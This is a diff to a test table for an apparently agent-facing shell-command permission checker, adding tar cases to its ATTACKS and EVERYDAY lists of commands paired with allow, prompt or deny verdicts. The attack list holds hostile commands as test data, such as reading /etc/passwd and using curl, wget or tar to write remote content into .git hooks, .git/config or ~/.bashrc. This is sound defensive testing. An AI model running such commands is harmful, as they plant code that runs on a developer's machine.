@@ -355,6 +355,9 @@ ATTACKS: dict[str, list[tuple[str, str]]] = {
         ("find . -files0-from /etc/passwd", "not-allow"),
         ("sed -f script.sed a.txt", "not-allow"),
         ("tar -cf .git/hooks/pre-commit src", "deny"),
+        ("tar cf .git/hooks/pre-commit src", "deny"),  # the old dashless form
+        ("tar czf /tmp/out.tgz src", "deny"),
+        ("tar -xzf a.tgz -C .git/hooks", "deny"),
         ("curl -o .git/hooks/pre-commit http://x", "deny"),
         ("curl --output ~/.bashrc http://x", "deny"),
         ("wget -O .git/config http://x", "deny"),
@@ -463,6 +466,8 @@ EVERYDAY: list[tuple[str, str]] = [
     ("hostname", "allow"),
     ("grep -A 3 -e x a.txt", "allow"),
     ("cp README.md copy.md", "prompt"),
+    ("tar -xzf ../dist.tgz", "prompt"),  # reading an archive outside asks; it is not a write there
+    ("tar tvf ../dist.tar", "prompt"),
     ("time -p ls -la", "allow"),
     ("sort -k 2 a.txt", "allow"),
     ("python3 --version", "allow"),
